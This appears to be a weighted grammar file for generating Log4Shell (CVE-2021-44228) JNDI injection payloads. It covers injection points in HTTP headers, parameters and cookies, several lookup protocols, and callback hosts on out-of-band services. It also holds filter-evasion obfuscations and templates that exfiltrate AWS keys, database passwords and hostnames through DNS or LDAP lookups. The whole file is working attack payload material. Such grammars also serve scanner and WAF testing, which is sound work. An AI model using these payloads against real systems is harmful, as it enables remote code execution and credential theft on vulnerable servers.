# JNDI lookups (Log4Shell, CVE-2021-44228) and their obfuscations: lookup
# nesting, case and default-value tricks, environment exfiltration in DNS.

technique = [4] "plain" | [3] "nested_lookup" | [2] "default_value" | [2] "env_exfil" | [1] "mixed_obfuscation" ;
place = [6] "header" | [3] "param" | [2] "query" | [1] "body" | [1] "cookie" ;
target = [4] "text" | [2] "any" | [1] "id" ;
encode = [8] "none" | [3] "raw" | [2] "pct" | [1] "double" | [1] "mixed" ;
param = "q" | "search" | "username" | "x" | "version" | "lang" | "callback" | "name" ;
header = [4] "User-Agent" | [3] "X-Api-Version" | [2] "Referer" | [2] "X-Forwarded-For"
	| "X-Request-Id" | "Accept-Language" | "X-Client-IP" | "CF-Connecting_IP" | "Contact"
	| "If-Modified-Since" | "X-Wap-Profile" | "Authorization" ;
cookie = "JSESSIONID" | "lang" | "remember_me" ;

proto = [4] "ldap" | "ldaps" | "rmi" | "dns" | "iiop" | "corba" | "nds" | "nis" | "http" ;
host = @word ".oast.me" | @word ".interact.sh" | @ip4 ":" ("1389" | "1099" | "389" | "443")
	| @word ".dnslog.cn" | @word ".burpcollaborator.net" | @hex(8,12) "." @word ".ceye.io" ;
path = "/" @alnum(4,10) | "/a" | "/Exploit" | "/Basic/Command/Base64/" @alnum(16,32) | "/o=tomcat" | "" ;
plain = "${jndi:" proto "://" host path "}" | @word " ${jndi:" proto "://" host path "}"
	| "${jndi:" proto ":" host path "}" ;
j = "j" | "${lower:j}" | "${upper:j}" | "${::-j}" | "${env:NaN:-j}" | "${date:'j'}" | "${sys:x:-j}" ;
n = "n" | "${lower:n}" | "${::-n}" | "${env:BAR:-n}" ;
d = "d" | "${lower:d}" | "${::-d}" | "${upper:d}" ;
i = "i" | "${lower:i}" | "${::-i}" | "${date:'i'}" ;
l = "l" | "${lower:l}" | "${::-l}" ;
nested_lookup = "${" j n d i ":" l "dap://" host path "}" | "${${::-j}${::-n}${::-d}${::-i}:" proto "://" host path "}"
	| "${${lower:jndi}:${lower:" proto "}://" host path "}" | "${${upper:j}${upper:n}${lower:d}i:" proto "://" host path "}" ;
default_value = "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//" host path "}"
	| "${${::-j}ndi:" proto "://" host path "}" | "${jn${::-d}i:" proto "://" host path "}"
	| "${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}" proto "://" host path "}" ;
env_exfil = "${jndi:" proto "://${env:" env "}." host "/a}" | "${jndi:dns://${hostName}." host "}"
	| "${jndi:" proto "://" host "/${sys:java.version}}" | "${jndi:ldap://${env:USER}.${env:HOSTNAME}." host "/x}" ;
env = "AWS_SECRET_ACCESS_KEY" | "AWS_ACCESS_KEY_ID" | "DB_PASSWORD" | "HOSTNAME" | "USER" | "JAVA_HOME" | "PATH" ;
mixed_obfuscation = "${${::-$}{jndi:" proto "://" host path "}}" | "$${jndi:" proto "://" host path "}"
	| "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://" host path "}" | "%24%7Bjndi:" proto "://" host path "%7D"
	| "${jndi:" proto "://127.0.0.1#" host path "}" ;
